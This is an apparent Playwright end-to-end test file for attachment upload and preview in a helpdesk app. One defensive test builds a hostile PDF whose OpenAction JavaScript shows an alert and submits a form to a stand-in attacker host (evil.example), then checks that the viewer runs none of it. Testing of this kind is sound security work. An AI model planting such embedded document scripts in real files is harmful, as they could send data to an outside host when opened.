import { createHash, randomBytes } from 'node:crypto';
import { crc32, deflateSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { Commands, createTicket } from '@meja/plugin-sdk/server';
import { done, until } from '@meja/testing';
import type { Page } from 'playwright-core';
import { accessibilityProblems, openDesk, type Desk, type Visit, type VisitOptions } from '../testing/desk.js';

const subject = 'Files for you';

describe('files at the desk', () => {
  let desk: Desk;

  beforeAll(async () => {
    desk = await openDesk();
    const commands = desk.server.app.get(Commands, { strict: false });
    await done(commands, desk.server.system, createTicket, { departmentId: desk.server.people.departmentA, subject, body: 'What does it look like?', requesterEmail: 'bo@example.org', priority: 'normal' });
  });
  afterAll(() => desk.close());

  async function atTheTicket(options: VisitOptions = {}): Promise<Visit> {
    const visit = await desk.visit({ as: 'agentA', ...options });
    const { page } = visit;
    await page.goto(`${desk.server.address}/`);
    await page.getByText(subject).first().click();
    await page.getByRole('article').getByText('What does it look like?').waitFor();
    return visit;
  }
  async function compose(page: Page, key: 'r' | 'n'): Promise<void> {
    await page.keyboard.press(key);
    await page.waitForFunction(() => document.activeElement?.matches('#composer textarea'));
  }
  async function closePreview(page: Page): Promise<void> {
    await page.keyboard.press('Escape');
    await page.locator('[data-preview]').waitFor({ state: 'detached' });
  }
  const choose = (page: Page, files: readonly { name: string; mimeType: string; buffer: Buffer }[]) => page.locator('#composer input[type=file]').setInputFiles([...files]);
  const chip = (page: Page, name: string) => page.locator('[data-upload]').filter({ hasText: name });
  const send = async (page: Page, words: string): Promise<void> => {
    await page.locator('#composer textarea').fill(words);
    await page.keyboard.press('Control+Enter');
    await page.getByRole('article').getByText(words).waitFor();
    await desk.server.settle();
  };
  const shots = process.env['MEJA_TEST_SHOTS'];
  const shoot = async (page: Page, name: string): Promise<void> => void (shots && (await page.screenshot({ path: `${shots}/${name}.png` })));

  it('go with a note, and are looked at without leaving the ticket and without asking anybody else', async () => {
    const { page, context, outside, broken } = await atTheTicket();
    await compose(page, 'n');
    await choose(page, [{ name: 'photo.png', mimeType: 'image/png', buffer: aPicture() }, { name: 'terms.pdf', mimeType: 'application/pdf', buffer: aPdf(['Terms of service', 'The second page']) }]);
    await chip(page, 'terms.pdf').and(page.locator('[data-upload=done]')).waitFor();
    await shoot(page, 'tray-light');
    expect(await accessibilityProblems(page)).toEqual([]);
    await send(page, 'Both files are here.');
    await until(async () => (await page.locator('[data-upload]').count()) === 0, 'an empty tray');
    await page.reload();
    await page.getByRole('button', { name: /^photo.png/ }).click();
    await page.locator('[data-preview] img').waitFor();
    await until(async () => page.locator('[data-preview] img').evaluate((image: HTMLImageElement) => image.naturalWidth === 320), 'the picture');
    await shoot(page, 'image-light');
    const width = () => page.locator('[data-preview] img').evaluate((image) => image.getBoundingClientRect().width);
    const before = await width();
    await page.keyboard.press('+');
    await until(async () => (await width()) > before, 'the larger picture');
    await closePreview(page);
    await page.getByRole('button', { name: /^terms.pdf/ }).press('Enter');
    await page.locator('[data-pdf-text]').getByText('Terms of service').waitFor();
    expect(await accessibilityProblems(page)).toEqual([]);
    await shoot(page, 'pdf-light');
    await page.keyboard.press('ArrowRight');
    await page.locator('[data-pdf-text]').getByText('The second page').waitFor();
    await page.getByRole('toolbar').getByText('Page 2 of 2').waitFor();
    await page.keyboard.press('Escape');
    await until(async () => page.evaluate(() => document.activeElement?.textContent?.includes('terms.pdf') === true), 'focus back where it was');
    expect([outside, broken]).toEqual([[], []]);
    await context.close();
  });

  it('go on after the network was gone and after a reload, and hold the message back until they are whole', async () => {
    const { page, context } = await atTheTicket();
    await compose(page, 'n');
    let parts = 0;
    // The first part arrives; no other comes through until the network is back.
    await page.route('**/uploads/*', async (route) => (route.request().method() === 'PATCH' && (parts += 1) >= 2 ? route.abort('connectionreset') : route.continue()));
    const bytes = randomBytes(3_000_000);
    await choose(page, [{ name: 'large.bin', mimeType: 'application/octet-stream', buffer: bytes }]);
    await page.locator('[data-upload=stuck]').waitFor();
    await shoot(page, 'tray-stuck');
    await page.locator('#composer textarea').fill('Too early');
    await page.getByText('A file is still on its way.').waitFor();
    expect(await page.getByRole('button', { name: 'Add note' }).isDisabled()).toBe(true);
    await chip(page, 'large.bin').getByRole('button', { name: 'Pause large.bin' }).click();
    await page.locator('[data-upload=paused]').waitFor();
    await until(() => page.evaluate(keptPaths).then((paths) => paths.length === 1 && paths[0] !== null), 'the file that is kept, with where it goes on');
    await page.unroute('**/uploads/*');
    await page.reload();
    await page.getByText('What does it look like?').first().waitFor();
    await compose(page, 'n');
    await chip(page, 'large.bin').and(page.locator('[data-upload=done]')).waitFor();
    const begun = await desk.server.rows(`select count(*)::int as n from upload where name = 'large.bin'`);
    expect(begun).toEqual([{ n: 1 }]);
    await send(page, 'It arrived after all.');
    const [row] = await desk.server.rows(`select blob_sha256 from attachment where name = 'large.bin'`);
    expect(row?.['blob_sha256']).toBe(createHash('sha256').update(bytes).digest('hex'));
    await context.close();
  });

  it('are dropped and pasted, and taken out again by the keyboard', async () => {
    const { page, context } = await atTheTicket();
    await compose(page, 'r');
    const give = (type: 'drop' | 'paste') => page.locator('#composer textarea').evaluate((area, type) => {
      const transfer = new DataTransfer();
      transfer.items.add(new File(['x'.repeat(100)], type === 'drop' ? 'dropped.txt' : 'image.png', { type: 'text/plain' }));
      area.dispatchEvent(type === 'drop' ? new DragEvent('drop', { dataTransfer: transfer, bubbles: true, cancelable: true }) : new ClipboardEvent('paste', { clipboardData: transfer, bubbles: true, cancelable: true }));
    }, type);
    await give('drop');
    await give('paste');
    await until(async () => (await page.locator('[data-upload=done]').count()) === 2, 'both files');
    await page.getByText('Write a word with the files.').waitFor();
    await page.getByRole('button', { name: 'Remove dropped.txt' }).press('Enter');
    await until(async () => page.evaluate(() => document.activeElement?.hasAttribute('data-remove') === true), 'focus on the neighbour');
    await page.keyboard.press('Enter');
    await until(async () => page.evaluate(() => document.activeElement?.tagName === 'TEXTAREA'), 'focus in the text');
    await until(async () => (await desk.server.rows(`select from upload where state <> 'removed' and name like '%dropped%'`)).length === 0, 'the files taken back');
    await context.close();
  });

  it('are refused with the reason when there is nothing in them or too much', async () => {
    const { page, context } = await atTheTicket();
    await compose(page, 'n');
    await page.locator('#composer textarea').evaluate((area) => {
      const dataTransfer = new DataTransfer();
      for (const [name, size] of [['empty.txt', 0], ['huge.bin', 25_000_001]] as const) dataTransfer.items.add(new File([new Uint8Array(size)], name));
      area.dispatchEvent(new DragEvent('drop', { dataTransfer, bubbles: true, cancelable: true }));
    });
    await chip(page, 'empty.txt').getByText('The file is empty.').waitFor();
    await chip(page, 'huge.bin').getByText('Too large: at most 25 MB.').waitFor();
    expect(await accessibilityProblems(page)).toEqual([]);
    await shoot(page, 'tray-refused-dark');
    await page.getByRole('button', { name: /^photo.png/ }).click();
    await page.locator('[data-preview] img').waitFor();
    expect(await accessibilityProblems(page)).toEqual([]);
    await shoot(page, 'image-dark');
    await closePreview(page);
    await page.getByRole('button', { name: /^terms.pdf/ }).click();
    await page.locator('[data-pdf-text]').getByText('Terms of service').waitFor();
    await shoot(page, 'pdf-dark');
    await context.close();
  });

  it('A04 run nothing when a PDF brings a program', async () => {
    const { page, context, outside, broken } = await atTheTicket();
    let dialogs = 0;
    page.on('dialog', (dialog) => void ((dialogs += 1), dialog.dismiss()));
    await compose(page, 'n');
    await choose(page, [{ name: 'hostile.pdf', mimeType: 'application/pdf', buffer: aPdf(['Harmless to look at'], '/OpenAction << /S /JavaScript /JS (app.alert("run"); this.submitForm("https://evil.example")) >>') }, { name: 'broken.pdf', mimeType: 'application/pdf', buffer: Buffer.from('%PDF-1.7 and nothing that follows') }]);
    await until(async () => (await page.locator('[data-upload=done]').count()) === 2, 'both files');
    await send(page, 'A hostile one.');
    await page.reload();
    await page.getByRole('button', { name: /^hostile.pdf/ }).click();
    await page.locator('[data-pdf-text]').getByText('Harmless to look at').waitFor();
    await closePreview(page);
    await page.getByRole('button', { name: /^broken.pdf/ }).click();
    await page.getByText('This file cannot be shown.').waitFor();
    // Another document was opened since: what a program does when it is opened, it would have done.
    expect([dialogs, outside, broken]).toEqual([0, [], []]);
    await context.close();
  });
});

/** Where the files that the browser keeps go on. */
function keptPaths(): Promise<readonly (string | null)[]> {
  return new Promise((resolve, reject) => {
    const opening = indexedDB.open('meja-uploads');
    opening.onerror = () => reject(opening.error);
    opening.onsuccess = () => {
      const reading = opening.result.transaction('files').objectStore('files').getAll();
      reading.onsuccess = () => {
        opening.result.close();
        resolve(reading.result.map(({ path }: { path: string | null }) => path));
      };
    };
  });
}

/** A PNG of a colour gradient, 320 × 200. */
function aPicture(): Buffer {
  const [width, height] = [320, 200];
  const rows = Buffer.concat(Array.from({ length: height }, (_, y) => Buffer.from([0, ...Array.from({ length: width }, (_, x) => [x % 256, y, 160]).flat()])));
  const chunk = (type: string, data: Buffer): Buffer => {
    const body = Buffer.concat([Buffer.from(type), data]);
    const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
    length.writeUInt32BE(data.byteLength);
    sum.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, sum]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 2, 0, 0, 0], 8);
  return Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), chunk('IHDR', header), chunk('IDAT', deflateSync(rows)), chunk('IEND', Buffer.alloc(0))]);
}

/** A PDF with a line on each page. */
function aPdf(lines: readonly string[], catalogue = ''): Buffer {
  const kids = lines.map((_, index) => `${4 + index * 2} 0 R`).join(' ');
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`,
    `<< /Type /Pages /Kids [${kids}] /Count ${lines.length} >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ...lines.flatMap((line, index) => {
      const content = `BT /F1 24 Tf 72 700 Td (${line}) Tj ET`;
      return [`<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> /Contents ${5 + index * 2} 0 R >>`, `<< /Length ${content.length} >>\nstream\n${content}\nendstream`];
    }),
  ];
  let text = '%PDF-1.7\n';
  const offsets = objects.map((object, index) => {
    const at = text.length;
    text += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return at;
  });
  const xref = text.length;
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('')}trailer << /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF`;
  return Buffer.from(text, 'latin1');
}
